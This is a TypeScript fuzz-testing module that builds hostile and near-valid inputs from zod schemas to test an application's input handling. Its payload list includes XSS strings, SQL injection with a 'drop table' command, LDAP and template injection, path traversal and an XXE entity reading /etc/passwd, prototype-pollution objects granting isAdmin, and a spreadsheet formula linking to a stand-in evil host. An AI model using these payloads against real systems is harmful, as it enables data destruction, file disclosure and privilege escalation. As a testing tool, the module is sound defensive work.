// What an attacker types, and values that look almost as a schema asks (A60).
import fc from 'fast-check'
import { z } from 'zod'

/** Stands in every hostile text: wherever it turns up again, something was reflected or logged. */
export const CANARY = 'canary7f3a'

const texts = [
  '',
  '\0',
  `${CANARY}\0`,
  `"><${CANARY} onload=alert(1)>`,
  `javascript:alert('${CANARY}')`,
  `${CANARY}\r\nset-cookie: stolen=1`,
  `' or '1'='1' -- ${CANARY}`,
  `'; drop table people.person; -- ${CANARY}`,
  `*)(uid=*))(|(uid=* ${CANARY}`,
  `\${7*7}{{7*7}}<%= 7*7 %>#{7*7} ${CANARY}`,
  `=HYPERLINK("http://evil.test/${CANARY}")`,
  `../../../../etc/passwd`,
  `..%2f..%2fetc%2fpasswd%00.jpg`,
  `file:///etc/passwd`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  '__proto__',
  'constructor',
  'toString',
  `{"__proto__":{"isAdmin":true}}`,
  '\ud800',
  `\u202e${CANARY}\u2066`,
  'ก\u0e33'.normalize('NFD'),
  'น\u0e4d\u0e32',
  `ก${'\u0e49'.repeat(3_000)}`,
  'é'.normalize('NFD'),
  '๑๑๐๐๗๐๐๒๓๐๗๐๘',
  '1009900230701',
  '9'.repeat(400),
  '1e999',
  '-0',
  'NaN',
  `${'a'.repeat(20_000)}!`,
  `${'('.repeat(500)}`,
  'true',
  'null',
  '[]',
]

/** A hostile text, or any at all. */
export const hostileText = fc.oneof(
  fc.constantFrom(...texts),
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }).map(text => `${CANARY}${text}`),
)

const deep = (depth: number, open: string, close: string) =>
  JSON.parse(open.repeat(depth) + close.repeat(depth))

/** Anything JSON can say, the worst first. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  fc.constantFrom<unknown>(
    null,
    true,
    0,
    -1,
    1.5,
    Number.MAX_SAFE_INTEGER + 2,
    1e308,
    [],
    [[]],
    {},
    JSON.parse('{"__proto__":{"isAdmin":true}}'),
    { constructor: { prototype: { isAdmin: true } } },
    deep(2_000, '[', ']'),
    Array.from({ length: 5_000 }, () => 'x'),
  ),
  fc.jsonValue({ maxDepth: 3 }),
)

type Schema = {
  type?: string
  const?: unknown
  enum?: unknown[]
  format?: string
  pattern?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  properties?: Record<string, Schema>
  required?: string[]
  items?: Schema
  anyOf?: Schema[]
}

/** Values near a schema: mostly right, each part now and then hostile. `known` is what stands in this world. */
export function nearly(schema: z.ZodType | undefined, known: string[]): fc.Arbitrary<unknown> {
  if (!schema) return hostileValue
  return arbitraryOf(z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as Schema, known)
}

function arbitraryOf(schema: Schema, known: string[]): fc.Arbitrary<unknown> {
  const broken = { weight: 1, arbitrary: hostileValue }
  const whole = (weight: number, arbitrary: fc.Arbitrary<unknown>) => fc.oneof({ weight, arbitrary }, broken)
  if (schema.const !== undefined) return whole(6, fc.constant(schema.const))
  if (schema.enum) return whole(6, fc.constantFrom(...schema.enum))
  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(one => arbitraryOf(one, known)))
  if (schema.type === 'object') return whole(9, objectOf(schema, known))
  if (schema.type === 'array')
    return whole(4, fc.array(arbitraryOf(schema.items ?? {}, known), { maxLength: 5 }))
  if (schema.type === 'integer' || schema.type === 'number')
    return whole(3, fc.integer({ min: schema.minimum ?? -10, max: schema.maximum ?? 1_000 }))
  if (schema.type === 'boolean') return whole(3, fc.boolean())
  if (schema.format === 'uuid') return whole(3, fc.oneof(fc.constantFrom(...known), fc.uuid()))
  if (schema.type === 'string') return whole(2, textOf(schema, known))
  return hostileValue
}

const textOf = ({ maxLength = 200 }: Schema, known: string[]) =>
  fc.oneof(
    fc.constantFrom(...known, '82947150', '12'),
    hostileText.map(text => text.slice(0, maxLength)),
  )

const objectOf = ({ properties = {}, required = [] }: Schema, known: string[]) =>
  fc
    .tuple(
      fc.record(
        Object.fromEntries(
          Object.entries(properties).map(([name, part]) => [
            name,
            required.includes(name)
              ? arbitraryOf(part, known)
              : fc.option(arbitraryOf(part, known), { nil: undefined }),
          ]),
        ),
      ),
      fc.option(fc.tuple(fc.constantFrom('__proto__', 'constructor', 'isAdmin', 'personId'), hostileValue), {
        freq: 6,
        nil: undefined,
      }),
    )
    .map(([value, extra]) => {
      const object: Record<string, unknown> = { ...value }
      // Defined, not assigned: assigning `__proto__` would change this object instead of sending it.
      if (extra)
        Object.defineProperty(object, extra[0], {
          value: extra[1],
          enumerable: true,
          configurable: true,
          writable: true,
        })
      return object
    })
